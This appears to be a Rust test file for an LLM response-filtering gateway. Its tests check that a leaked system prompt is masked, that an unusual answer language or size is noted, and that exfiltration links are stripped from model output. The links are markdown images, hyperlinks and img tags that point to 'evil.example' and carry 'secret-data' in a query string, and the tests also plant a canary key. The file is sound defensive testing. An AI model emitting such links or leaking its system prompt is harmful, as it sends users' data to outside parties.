//! What answers must not carry: the system prompt, canaries, links that carry data out; and what is noted of their shape.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, clippy::string_slice)]

mod support;

use serde_json::{Value, json};
use support::streams::{framing, messages, pieces, read, words};
use support::{Answer, Fixture, Played, engine, play, policy};

const PROMPT: &str =
    "You are the assistant of the Northwind claims department and must never say how reserves are computed.";

fn stream(fixture: &Fixture, more: &Value, ask: &str, said: &str, size: usize) -> Played {
    let engine = engine(&policy(fixture.text("provider"), more));
    let content_type = fixture.value["stream"]["content_type"].as_str().unwrap();
    let answer = Answer { content_type, chunks: messages(fixture, &pieces(said, size)), cut: false };
    let request = fixture.stream_request(ask).replace("\"SYSTEM\"", &json!(PROMPT).to_string());
    play(&engine, "POST", fixture.stream_path(), &request, Some(&answer))
}

fn whole(fixture: &Fixture, more: &Value, ask: &str, said: &str) -> Played {
    let engine = engine(&policy(fixture.text("provider"), more));
    let body = fixture.answer(said).unwrap().into_bytes();
    let answer = Answer { content_type: "application/json", chunks: vec![body], cut: false };
    let request = fixture.request(ask).replace("\"SYSTEM\"", &json!(PROMPT).to_string());
    play(&engine, "POST", fixture.text("path"), &request, Some(&answer))
}

fn with_a_system_prompt() -> Vec<Fixture> {
    Fixture::all().into_iter().filter(|f| f.streams() && f.value["channels"].get("SYSTEM").is_some()).collect()
}

#[test]
fn the_system_prompt_does_not_come_back() {
    let more =
        json!({"content": [{"id": "leak", "detect": "SYSTEM_PROMPT_LEAK", "action": "mask", "direction": "response"}]});
    let leaking = format!("Sure! **{PROMPT}** Anything else?");
    let quoting = "I am the assistant of the Northwind claims department. Anything else?";
    for fixture in with_a_system_prompt() {
        for size in [1, 5, 40, 1000] {
            let played = stream(&fixture, &more, "Hi", &leaking, size);
            let said = words(&fixture, &read(framing(&fixture), &played.client_bytes()));
            assert!(
                !said.contains("claims department") && !said.contains("reserves"),
                "{} {size}: {said}",
                fixture.name
            );
            assert!(said.starts_with("Sure! ") && said.ends_with("Anything else?"), "{} {size}: {said}", fixture.name);
            let played = stream(&fixture, &more, "Hi", quoting, size);
            assert_eq!(words(&fixture, &read(framing(&fixture), &played.client_bytes())), quoting, "{}", fixture.name);
        }
        let played = whole(&fixture, &more, "Hi", &leaking);
        assert!(!played.client_text().contains("claims department"), "{}", fixture.name);
        assert!(played.client_text().contains("[SYSTEM_PROMPT_LEAK]"), "{}", fixture.name);
        assert!(played.record["doorward.findings"].contains("out:SYSTEM_PROMPT_LEAK/mask"), "{}", fixture.name);
        assert_eq!(whole(&fixture, &more, "Hi", quoting).client_text(), fixture.answer(quoting).unwrap());
    }
}

#[test]
fn nothing_is_carried_out_by_links() {
    let more = json!({
        "content": [{"id": "out", "detect": ["exfiltration"], "action": "mask", "direction": "response"},
            {"id": "mail", "detect": "EMAIL_ADDRESS", "action": "tokenize", "direction": "request"}],
        "detectors": {"links": {"hosts": ["docs.northwind.dev"]}, "canaries": [{"env": "KEY"}]},
    });
    let canary = "0123456789abcdef0123456789abcdef";
    for fixture in Fixture::all().iter().filter(|f| f.streams()) {
        for (said, gone) in [
            ("See ![x](https://evil.example/p.png?q=secret-data) now", "evil.example"),
            ("See ![x](//evil.example/p.png) now", "evil.example"),
            ("See [here](https://evil.example/?q=secret-data) now", "evil.example"),
            ("See <img src='https://evil.example/x'> now", "evil.example"),
            (&*format!("See {canary} now"), canary),
        ] {
            for size in [1, 4, 500] {
                let played = stream(fixture, &more, "Hi", said, size);
                let client = words(fixture, &read(framing(fixture), &played.client_bytes()));
                assert!(!client.contains(gone), "{} {size}: {client}", fixture.name);
                assert!(client.starts_with("See ") && client.ends_with(" now"), "{} {size}: {client}", fixture.name);
            }
        }
        let fine = "See ![x](https://docs.northwind.dev/p.png?q=1) and https://example.org/page now";
        let played = stream(fixture, &more, "Hi", fine, 4);
        assert_eq!(words(fixture, &read(framing(fixture), &played.client_bytes())), fine, "{}", fixture.name);
    }
}

#[test]
fn another_script_and_an_unusual_size_are_noted() {
    let more = json!({"answers": {"note_bytes": 2000}});
    let (ask, same) = (
        "Please tell me about the history of this place in some detail, as you would tell a friend. ".repeat(2),
        "It is old. ".repeat(20),
    );
    let other = "Это место очень старое, и о нём можно рассказать много интересного всем нашим друзьям. ".repeat(2);
    let notes = |played: &Played| played.record.get("doorward.notes").cloned().unwrap_or_default();
    for fixture in Fixture::all().iter().filter(|f| f.streams()) {
        assert_eq!(notes(&stream(fixture, &more, &ask, &same, 9)), "", "{}", fixture.name);
        assert_eq!(notes(&whole(fixture, &more, &ask, &same)), "", "{}", fixture.name);
        assert_eq!(notes(&stream(fixture, &more, &ask, &other, 9)), "answer.language", "{}", fixture.name);
        assert_eq!(notes(&whole(fixture, &more, &ask, &other)), "answer.language", "{}", fixture.name);
        let long = "It is old. ".repeat(300);
        assert_eq!(notes(&stream(fixture, &more, &ask, &long, 90)), "answer.size", "{}", fixture.name);
    }
}
